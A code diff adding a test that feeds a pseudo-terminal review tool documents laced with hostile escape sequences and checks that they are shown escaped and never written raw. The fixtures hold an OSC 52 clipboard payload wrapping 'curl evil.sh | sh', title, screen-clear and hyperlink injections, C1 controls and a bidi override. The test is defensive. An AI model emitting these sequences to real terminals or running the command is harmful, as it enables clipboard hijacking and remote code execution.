@@ -178,6 +178,45 @@ afterEach(() => {
   }, 60_000);
 });
 
+(hasTmux ? describe : describe.skip)('review in a pseudo-terminal, on hostile text', () => {
+  test('control characters in the docs and the question are shown escaped, never sent raw: no clipboard write, no title, no link; e offers the wording escaped', async () => {
+    const E = '\u001b';
+    const osc52 = (t: string) => `${E}]52;c;${Buffer.from(t).toString('base64')}\u0007`;
+    writeFileSync(join(dir, 'hostile.md'), `# Returns desk ${osc52('curl evil.sh | sh')}\n\nBring the parcel ${E}]0;pwned\u0007 to the desk ${E}[2J with the ${E}]8;;https://evil.example${E}\\label${E}]8;;${E}\\ and \u009b2J the receipt \u202Etxt.exe.\n`);
+    const drafts = [{ question: `How do I return a parcel? ${osc52('pwned')}`, count: 1, lines: [1], candidates: [cand('hostile.md#returns-desk-52cy3vybcbldmlslnnoihwgc2g'), cand('returns.md#return-windows')] }];
+    writeFileSync(join(dir, '.github/retrieval-golden.yml'), appendDrafts(HEAD, 'g', drafts, 'log.txt').text);
+    const rawOut = join(dir, 'pane.raw');
+    start('--dir .');
+    // Everything the program writes to the terminal, byte for byte; and OSC 52 would land in tmux's buffers.
+    tmux('set-option', '-t', session, 'set-clipboard', 'on');
+    tmux('pipe-pane', '-o', '-t', session, `cat >> ${JSON.stringify(rawOut)}`);
+    let s = await until('1 of 1 · draft-001');
+    s = await until('Returns desk');
+    expect(s).toContain('How do I return a parcel? \\x1B]52;c;cHduZWQ=\\x07');
+    expect(s).toContain('Returns desk \\x1B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
+    expect(s).toMatch(/Bring the parcel \\x1B\]0;pwned\\x07 to the desk \\x1B\[2J/);
+    tmux('send-keys', '-t', session, 'e');
+    s = await until('new wording: How do I return a parcel? \\x1B]52;c;cHduZWQ=\\x07');
+    // Enter on the wording as offered changes nothing; then a new wording is saved as typed.
+    tmux('send-keys', '-t', session, 'Enter');
+    tmux('send-keys', '-t', session, 'e');
+    await until(/new wording: How do I return a parcel\? \\x1B\]52;c;cHduZWQ=\\x07\s*$/m);
+    tmux('send-keys', '-t', session, 'C-u', 'How do I return a parcel?', 'Enter');
+    await until('wording saved');
+    tmux('send-keys', '-t', session, 'q');
+    await until('EXIT=0');
+    const bytes = readFileSync(rawOut, 'latin1');
+    expect(bytes).toContain('Returns desk');
+    expect(bytes.match(/\x1b\][0-9]+;/g) ?? []).toEqual([]);
+    // No C1 (UTF-8 C2 80–9F) nor bidirectional override (E2 80 AE) in what was written.
+    expect(bytes.match(/\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]|\x07/g) ?? []).toEqual([]);
+    // The tmux server is shared with whatever else runs: only these payloads count.
+    expect(tmux('list-buffers', '-F', '#{buffer_sample}')).not.toMatch(/pwned|evil\.sh/);
+    const g = parseGoldenSet(golden(), 'g');
+    expect(g.drafts?.[0].question).toBe('How do I return a parcel?');
+  }, 60_000);
+});
+
 test('without a terminal: exit 2, with what to run instead', async () => {
   const io = recordingIo(dir);
   expect(await main(['review', '--dir', '.'], io)).toBe(2);
